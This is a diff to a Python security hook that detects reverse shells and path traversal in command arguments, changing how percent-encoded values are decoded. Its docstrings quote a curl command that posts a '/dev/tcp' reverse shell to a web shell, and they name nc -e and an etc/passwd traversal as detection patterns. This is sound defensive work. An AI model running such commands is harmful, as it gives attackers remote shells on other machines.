@@ -94,6 +94,14 @@ _REVERSE_SHELL = lazy_compile(
 )
 """What ties a shell to a connection (``/dev/tcp/``, ``bash -i``, ``nc -e``, a FIFO, a Python socket), in
 text sent to another machine: a reverse shell injected into it."""
+_PERCENT = lazy_compile(r"%([0-9A-Fa-f]{2})")
+"""A percent-encoded byte of a URL or a form field (decoded here: urllib.parse costs the hook its import)."""
+
+
+def _decoded(match: re.Match[str]) -> str:
+    return chr(int(match.group(1), 16))
+
+
 _TRAVERSAL = lazy_compile(r"(?:/|%2f|\\|=)(?:\.|%2e){2}(?:/|%2f|\\|$)")
 """A path segment ``..`` in a URL's path or a query value, plain or percent-encoded (``/../``,
 ``%2e%2e%2f``, ``?page=..%2f..%2fetc%2fpasswd``)."""
@@ -185,11 +193,9 @@ def _nmap_attack(invocation: Invocation, values: list[str]) -> Verdict | None:
 def _injected_shell(invocation: Invocation, values: list[str]) -> Verdict | None:
     """``curl http://h/shell.php --data-urlencode 'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``: a
     reverse shell sent for another machine to run (a web shell's parameter, an injectable field)."""
-    from urllib.parse import unquote_plus  # only for a client's arguments that mention a shell
-
     for value in values:
         if ("/dev/" in value or "sh" in value or "nc" in value or "%" in value) and _REVERSE_SHELL.search(
-            unquote_plus(value)
+            _PERCENT.sub(_decoded, value.replace("+", " ")) if "%" in value or "+" in value else value
         ):
             why = f"sends a reverse shell for another machine to run ({value[:80]})"
             return _verdict(SERVICE_ATTACK, invocation, why)
